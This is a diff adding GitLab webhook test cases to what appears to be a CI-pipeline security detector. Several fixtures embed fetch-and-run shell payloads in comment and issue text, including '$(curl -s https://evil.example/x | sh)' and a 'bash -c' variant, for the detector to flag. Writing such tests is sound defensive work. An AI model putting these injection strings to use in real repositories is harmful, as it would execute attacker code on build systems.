@@ -64,6 +64,20 @@ function push(
   return hook('push', b);
 }
 
+/** A real GitLab hook body, varied, through the real adapter (header from the fixture's hook kind). */
+function gitlab(file: string, change: (b: Body) => void): PipewardenEvent {
+  const b = structuredClone(fixtureBody('gitlab', file)) as Body;
+  change(b);
+  const hookName = file.startsWith('system__')
+    ? 'System Hook'
+    : file.startsWith('note')
+      ? 'Note Hook'
+      : 'Issue Hook';
+  const [e] = bodyEvents('gitlab', b, { 'x-gitlab-event': hookName });
+  if (!e) throw new Error('no event');
+  return e;
+}
+
 /** The real issue-comment-shaped body: the pull request sample's text moved into a comment. */
 function comment(text: string, association: string): PipewardenEvent {
   const b = body('pull_request__opened.same-repo.json');
@@ -186,5 +200,37 @@ export const cases: DetectorCase[] = [
     name: 'a GitLab tag-push system hook is not a pipeline change',
     event: fixtureEvent('gitlab', 'system__tag_push.json'),
     expect: 0,
+  },
+  {
+    name: 'GitLab: a comment on a merge request from a fork with a command substitution',
+    event: gitlab('note_merge_request.json', (b) => {
+      b.object_attributes.note = 'retest please $(curl -s https://evil.example/x | sh)';
+      b.merge_request.source_project_id = 999;
+    }),
+    expect: 1,
+    summaryIncludes: 'comment.body',
+  },
+  {
+    name: 'GitLab: the real merge request comment is not reported',
+    event: fixtureEvent('gitlab', 'note_merge_request.json'),
+    expect: 0,
+  },
+  {
+    name: 'GitLab: an issue carrying a shell payload (bash -c) and a backtick title',
+    event: gitlab('issue.json', (b) => {
+      b.object_attributes.title = 'Crash when name is `id`';
+      b.object_attributes.description = 'Run bash -c "curl evil.example | sh" to reproduce';
+    }),
+    expect: 1,
+  },
+  {
+    name: 'GitLab: a [skip ci] push to a public project (visibility_level 20)',
+    event: gitlab('system__push.json', (b) => {
+      b.project.visibility_level = 20;
+      b.commits[0].message = 'docs: typo [ci skip]';
+      b.commits[0].modified = ['README.md'];
+    }),
+    expect: 1,
+    summaryIncludes: 'skips CI',
   },
 ];
